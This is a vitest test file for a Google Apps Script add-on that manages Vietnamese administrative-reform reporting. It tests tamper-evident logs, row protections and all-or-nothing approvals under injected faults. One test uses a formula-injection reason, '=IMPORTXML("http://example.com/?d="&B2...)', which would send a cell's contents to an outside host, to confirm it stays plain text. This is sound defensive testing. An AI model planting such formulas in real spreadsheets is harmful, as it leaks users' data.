/**
 * SPEC "Who may change what": a log that survives its users, text that stays
 * text, protections that follow their rows, and every approval action all or
 * nothing under a fault at any of its service calls (including an execution
 * Apps Script stops, which runs no undo). On the built dist/Code.js and the
 * stand-ins.
 */
import { describe, expect, it } from "vitest";
import { columnLetter } from "../src/core/a1";
import { SUBMISSION_COLUMNS } from "../src/core/schema";
import { settingsFor } from "../src/core/settings";
import type { ApprovalResult, ApprovalView } from "../src/gas/approval";
import { type LocalAddon, startAddon } from "../src/local/runtime";
import { goodRow, submissionRows, unitRows } from "./fixtures";
import { disposeAfterEach, fullState, refusal } from "./helpers/addon";

const OWNER = "owner@tinh.example.vn";
const REVIEWER = "review@tinh.example.vn";
const CLERK_A = "a@xa.example.vn";
const CLERK_B = "b@xa.example.vn";
const P = "2023-Q1";

const track = disposeAfterEach();
const col = (key: string) => SUBMISSION_COLUMNS.findIndex((c) => c.key === key);
const letter = (key: string) => columnLetter(col(key) + 1);

function province(): LocalAddon {
  const emails: Record<string, string> = { A: CLERK_A, B: CLERK_B, C: "" };
  const units = unitRows(["A", "B", "C"].map((code) => ({ code }))).map((r, i) =>
    i === 0 ? r : [r[0], r[1], r[2], emails[String(r[0])], r[4]],
  );
  return track(
    startAddon({
      ownerEmail: OWNER,
      userEmail: OWNER,
      editors: [REVIEWER, CLERK_A, CLERK_B],
      sheets: { "Đơn vị": units, "Số liệu": submissionRows([goodRow("A", P), goodRow("B", P)]) },
      documentProperties: { "cchc.settings": JSON.stringify({ ...settingsFor("tỉnh", "Quảng Trị"), reviewers: [REVIEWER] }) },
    }),
  );
}

const as = (a: LocalAddon, user: string) => a.env.setUser(user);
const state = (a: LocalAddon) => a.call<ApprovalView>("approvalState", P);
const statuses = (a: LocalAddon) => Object.fromEntries(state(a).units.map((u) => [u.code, u.status]));
const logSheet = (a: LocalAddon) => a.env.document.getSheets().find((s) => s.getName().startsWith("Nhật ký CCHC"))!;
const queue = (a: LocalAddon) =>
  Object.keys(a.env.globals.PropertiesService.getDocumentProperties().getProperties()).filter((k) => k.startsWith("cchc.log."));

/** A submitted by its clerk and returned, B submitted and approved: four log rows. */
function withHistory(): LocalAddon {
  const a = province();
  a.call("preparePeriod", P);
  as(a, CLERK_A);
  a.call("submitUnit", P, "A");
  as(a, CLERK_B);
  a.call("submitUnit", P, "B");
  as(a, REVIEWER);
  a.call("returnUnit", P, "A", "Thiếu số liệu");
  a.call("approveUnit", P, "B");
  return a;
}

describe("the log of record survives its users", () => {
  it("renaming it changes nothing: it is found by its id", () => {
    const a = withHistory();
    const before = statuses(a);
    as(a, OWNER);
    logSheet(a).setName("Nhật ký cũ");
    expect(statuses(a)).toEqual(before);
    expect(state(a).logProblem).toBe("");
    a.call("reopenUnit", P, "B", "");
    expect(statuses(a)).toEqual({ ...before, B: "Đang nhập" });
  });

  it("sorting it newest first changes nothing: rows are read by their own numbers", () => {
    const a = withHistory();
    const before = statuses(a);
    as(a, OWNER);
    const sheet = logSheet(a);
    const rows = sheet.getRange(2, 1, sheet.getLastRow() - 1, sheet.getLastColumn()).getValues();
    sheet.getRange(2, 1, rows.length, rows[0]!.length).setValues([...rows].reverse());
    expect(statuses(a)).toEqual(before);
    expect(state(a).logProblem).toBe("");
  });

  it("a hand edit is reported; no status falls back to Đang nhập, and no status changes until a reviewer accepts the log", () => {
    const a = withHistory();
    as(a, OWNER);
    const sheet = logSheet(a);
    sheet.getRange("G3").setValue("Đã duyệt"); // "B: Đã nộp" made "Đã duyệt" by hand
    const view = state(a);
    expect(view.logProblem).toMatch(/^Nhật ký CCHC đã bị sửa bằng tay: dòng số thứ tự 2 \(dòng 3 của trang\) đã bị thay đổi/);
    const before = fullState(a);
    expect(refusal(a, "approveUnit", P, "B")).toMatch(/Nhật ký CCHC đã bị sửa bằng tay/);
    expect(refusal(a, "preparePeriod", P)).toMatch(/Nhật ký CCHC đã bị sửa bằng tay/);
    as(a, CLERK_A);
    expect(refusal(a, "submitUnit", P, "A")).toMatch(/Nhật ký CCHC đã bị sửa bằng tay/);
    as(a, OWNER);
    expect(fullState(a)).toBe(before);
    as(a, CLERK_A);
    // A clerk may not accept it; a reviewer may, and that is logged.
    expect(refusal(a, "acceptLog", P)).toMatch(/^Chỉ người duyệt/);
    as(a, REVIEWER);
    const r = a.call<ApprovalResult>("acceptLog", P);
    expect(r.state.logProblem).toBe("");
    const log = logSheet(a).getDataRange().getValues();
    expect(log.at(-1)![7]).toMatch(/^Người duyệt xác nhận nhật ký: Nhật ký CCHC đã bị sửa bằng tay/);
    expect(log.at(-1)![2]).toBe(REVIEWER);
    expect(log.slice(1).map((row) => row[0])).toEqual(["1", "2", "3", "4", "5"]);
  });

  it("a deleted log is reported, never read as every unit Đang nhập; a later prepare does not reopen approved rows", () => {
    const a = withHistory();
    as(a, OWNER);
    a.env.document.deleteSheet(logSheet(a));
    const view = state(a);
    expect(view.logProblem).toMatch(/^Nhật ký CCHC đã bị xóa \(tiện ích đã ghi 4 dòng\)/);
    expect(refusal(a, "preparePeriod", P)).toMatch(/Nhật ký CCHC đã bị xóa/);
    as(a, CLERK_B);
    // B's approved row stays closed to its clerk.
    expect(a.env.userEdit("Số liệu", `${letter("received_online")}3`, 1).ok).toBe(false);
    // The report says the status is unknown, and why.
    as(a, OWNER);
    a.call("generateReport", P);
    expect(JSON.stringify(a.documents.at(-1))).toContain("Tình trạng duyệt số liệu chưa xác định được: Nhật ký CCHC đã bị xóa");
  });

  it("a damaged queued entry (to: HACK) never becomes a status; the next reviewer action logs it as set aside and removes it", () => {
    const a = province();
    a.call("preparePeriod", P);
    const props = a.env.globals.PropertiesService.getDocumentProperties();
    const hack = {
      time: "2023-03-01 00:00:00",
      user: CLERK_A,
      period: P,
      unit: "B",
      from: "Đang nhập",
      to: "HACK",
      note: "",
      fingerprint: "00000000000000",
    };
    props.setProperty("cchc.log.000000000000001.B", JSON.stringify(hack));
    props.setProperty("cchc.log.000000000000002.B", JSON.stringify({ ...hack, to: "Đã duyệt" }));
    const view = state(a);
    expect(view.units.find((u) => u.code === "B")!.status).toBe("Đang nhập");
    expect(view.rejectedQueue).toHaveLength(2);
    expect(view.pendingLog).toBe(0);
    a.call("preparePeriod", P);
    expect(queue(a)).toEqual([]);
    const notes = logSheet(a)
      .getDataRange()
      .getValues()
      .slice(1)
      .map((r) => String(r[7]));
    expect(notes).toHaveLength(2);
    expect(notes[0]).toMatch(/^Bỏ qua mục chờ ghi không hợp lệ \(sai cấu trúc\): .*HACK/);
    expect(statuses(a)).toEqual({ A: "Đang nhập", B: "Đang nhập", C: "Đang nhập" });
  });
});

describe("text stays text", () => {
  it("a reason that looks like a formula is stored and logged as the words typed", () => {
    const reason = '=IMPORTXML("http://example.com/?d="&B2;"//a")';
    const a = province();
    a.call("preparePeriod", P);
    as(a, CLERK_A);
    a.call("submitUnit", P, "A");
    as(a, REVIEWER);
    a.call("returnUnit", P, "A", reason);
    const note = a.env.sheet("Số liệu").getRange(2, col("review_note") + 1);
    expect(note.getFormula()).toBe("");
    expect(note.getValue()).toBe(reason);
    const log = logSheet(a).getDataRange();
    expect(log.getFormulas().flat().filter(Boolean)).toEqual([]);
    expect(log.getValues().at(-1)![7]).toBe(reason);
    expect(state(a).units.find((u) => u.code === "A")!.note).toBe(reason);
  });
});

describe("a row closes at Đã nộp and the add-on sees a change made after", () => {
  it("the clerk's own row refuses edits once submitted (a locking validation, then the sheet's protection); reopened at Trả lại", () => {
    const a = province();
    a.call("preparePeriod", P);
    as(a, CLERK_A);
    const cell = `${letter("received_online")}2`;
    a.call("submitUnit", P, "A");
    const locked = a.env.userEdit("Số liệu", cell, 999);
    expect(locked.ok).toBe(false);
    // The reviewer's next action closes it with the protection and puts set-up's validations back.
    as(a, REVIEWER);
    a.call("preparePeriod", P);
    // The lock (a validation that rejects everything) gave way to set-up's: a count takes a number again.
    const rule = a.env.sheet("Số liệu").getRange(cell).getDataValidation();
    expect(String(rule?.getCriteriaType())).toBe("NUMBER_GREATER_THAN_OR_EQUAL_TO");
    as(a, CLERK_A);
    expect(a.env.userEdit("Số liệu", cell, 999).ok).toBe(false);
    as(a, REVIEWER);
    a.call("returnUnit", P, "A", "Kiểm tra lại");
    as(a, CLERK_A);
    expect(a.env.userEdit("Số liệu", cell, 31).ok).toBe(true);
  });

  it("figures changed after submission (the lock removed by hand) are flagged, and Duyệt refuses them", () => {
    const a = province();
    a.call("preparePeriod", P);
    as(a, CLERK_A);
    a.call("submitUnit", P, "A");
    // The clerk clears the lock (Data > Data validation) and edits before any reviewer acts.
    const sheet = a.env.sheet("Số liệu");
    sheet.getRange(2, col("received_online") + 1).clearDataValidations();
    expect(a.env.userEdit("Số liệu", `${letter("received_online")}2`, 1).ok).toBe(true);
    as(a, REVIEWER);
    expect(state(a).units.find((u) => u.code === "A")!.changed).toBe(true);
    expect(refusal(a, "approveUnit", P, "A")).toMatch(/^Số liệu của Xã A đã bị sửa sau khi nộp; chưa duyệt được/);
    a.call("returnUnit", P, "A", "Số liệu đổi sau khi nộp");
    expect(state(a).units.find((u) => u.code === "A")!.changed).toBe(false);
  });

  it("after a sort, the reviewer is warned, the clerk's submit is refused in Vietnamese, and prepare puts every protection back", () => {
    const a = province();
    a.call("preparePeriod", P);
    const sheet = a.env.sheet("Số liệu");
    const rows = sheet.getRange(2, 1, 2, sheet.getLastColumn()).getValues();
    sheet.getRange(2, 1, 2, sheet.getLastColumn()).setValues([rows[1]!, rows[0]!]);
    as(a, REVIEWER);
    const drift = state(a).drift;
    expect(drift.map((d) => [d.key, d.kind])).toEqual(
      expect.arrayContaining([
        ["dong:A", "moved"],
        ["dong:B", "moved"],
      ]),
    );
    as(a, CLERK_A);
    const before = fullState(a);
    expect(refusal(a, "submitUnit", P, "A")).toMatch(/^Dòng của Xã A đã bị di chuyển/);
    expect(fullState(a)).toBe(before);
    expect(a.env.userEdit("Số liệu", `${letter("received_online")}3`, 31).ok).toBe(false); // A's row, B's protection
    as(a, REVIEWER);
    a.call("preparePeriod", P);
    expect(state(a).drift).toEqual([]);
    as(a, CLERK_A);
    const same = (r: number) =>
      a.env
        .sheet("Số liệu")
        .getRange(`${letter("received_online")}${r}`)
        .getValue();
    expect(a.env.userEdit("Số liệu", `${letter("received_online")}3`, same(3)).ok).toBe(true);
    expect(a.env.userEdit("Số liệu", `${letter("received_online")}2`, same(2)).ok).toBe(false);
    expect(a.call<ApprovalResult>("submitUnit", P, "A").ok).toBe(true);
  });
});

// ---------------------------------------------------------------- faults at every call

interface Scenario {
  /** Builds the state before the action. */
  arrange: () => LocalAddon;
  /** The user who acts. */
  user: string;
  act: (a: LocalAddon) => unknown;
}

const SCENARIOS: Record<string, Scenario> = {
  "Chuẩn bị kỳ báo cáo": { arrange: province, user: OWNER, act: (a) => a.call("preparePeriod", P) },
  "Nộp số liệu": {
    arrange: () => {
      const a = province();
      a.call("preparePeriod", P);
      return a;
    },
    user: CLERK_A,
    act: (a) => a.call("submitUnit", P, "A"),
  },
  "Trả lại, with two clerks' submissions queued (the queue move)": {
    arrange: () => {
      const a = province();
      a.call("preparePeriod", P);
      as(a, CLERK_A);
      a.call("submitUnit", P, "A");
      as(a, CLERK_B);
      a.call("submitUnit", P, "B");
      return a;
    },
    user: REVIEWER,
    act: (a) => a.call("returnUnit", P, "A", '=HYPERLINK("x")'),
  },
  Duyệt: {
    arrange: () => {
      const a = province();
      a.call("preparePeriod", P);
      as(a, CLERK_A);
      a.call("submitUnit", P, "A");
      return a;
    },
    user: OWNER,
    act: (a) => a.call("approveUnit", P, "A"),
  },
  "Mở lại": {
    arrange: () => {
      const a = withHistory();
      return a;
    },
    user: REVIEWER,
    act: (a) => a.call("reopenUnit", P, "B", "Bổ sung"),
  },
};

/** The counted service calls the action makes when nothing fails. */
function callsOf(s: Scenario): string[] {
  const a = s.arrange();
  as(a, s.user);
  const t = a.env.traceCalls();
  s.act(a);
  t.stop();
  return t.calls;
}

/** What the action leaves: statuses, the log's changes (not its times), the protections, the queue; with `cells`, Số liệu too. */
function outcome(a: LocalAddon, cells = true): string {
  as(a, OWNER);
  const view = state(a);
  const log = logSheet(a)
    ?.getDataRange()
    .getValues()
    .slice(1)
    .map((r) => r.slice(2, 8).join("|"));
  const all = JSON.parse(fullState(a));
  return JSON.stringify([view.logProblem, view.units.map((u) => u.status), log, cells ? all[0]["Số liệu"] : null, all[3], view.pendingLog]);
}

/** The outcome of the action run to the end with nothing failing. */
function expectedOutcome(s: Scenario, cells = true): string {
  const a = s.arrange();
  as(a, s.user);
  s.act(a);
  return outcome(a, cells);
}

describe.each(Object.entries(SCENARIOS))("%s, a fault at every service call", (_name, s) => {
  const calls = callsOf(s);
  const expected = expectedOutcome(s);
  it("makes a bounded number of calls, one Sheets API write at most", () => {
    expect(calls.length).toBeGreaterThan(5);
    expect(calls.filter((c) => c === "Spreadsheets.batchUpdate").length).toBeLessThanOrEqual(1);
  });
  it.each(calls.map((c, i) => [i + 1, c] as const))("call %i (%s): all done, or cells, protections, log and queue as they were", (n) => {
    const a = s.arrange();
    as(a, s.user);
    const before = fullState(a);
    a.env.failNth(n, "Service Spreadsheets failed while accessing document.");
    let message = "";
    try {
      s.act(a);
    } catch (e) {
      message = (e as Error).message;
    }
    if (message) {
      expect(message).toMatch(/[ạ-ỹđ]/); // in Vietnamese
      expect(fullState(a)).toBe(before);
    } else expect(outcome(a)).toBe(expected); // a read the add-on can do without (the time zone of a date) failed
  });
});

describe.each(Object.entries(SCENARIOS))("%s, stopped by Apps Script at every call (no undo runs)", (_name, s) => {
  const calls = callsOf(s);
  // A clerk's status cell may lag its queued submission (the queue is the record); the cells are left out here.
  const expected = expectedOutcome(s, false);
  it.each(calls.map((c, i) => [i + 1, c] as const))(
    "call %i (%s): the log stays readable, nothing queued is lost, and running it again finishes the job",
    (n) => {
      const a = s.arrange();
      as(a, s.user);
      const queued = queue(a).length;
      a.env.failNth(n, "Exceeded maximum execution time", true);
      try {
        s.act(a);
      } catch {
        // stopped; what matters is what it left
      }
      as(a, OWNER);
      const view = state(a);
      expect(view.logProblem).toBe("");
      const logged = Math.max(0, (logSheet(a)?.getLastRow() ?? 1) - 1);
      // Each clerk's submission is still queued or in the log.
      expect(queue(a).length + logged).toBeGreaterThanOrEqual(queued);
      // Again, as a user would after the error (a clerk's submit may already have gone through).
      as(a, s.user);
      try {
        s.act(a);
      } catch (e) {
        // It went through before the stop; the protections it had still to set are the next reviewer action's (prepare repairs).
        expect((e as Error).message).toMatch(/đang ở trạng thái/);
        if (s.user !== CLERK_A) {
          as(a, OWNER);
          a.call("preparePeriod", P);
        }
      }
      expect(outcome(a, false)).toBe(expected);
    },
  );
});
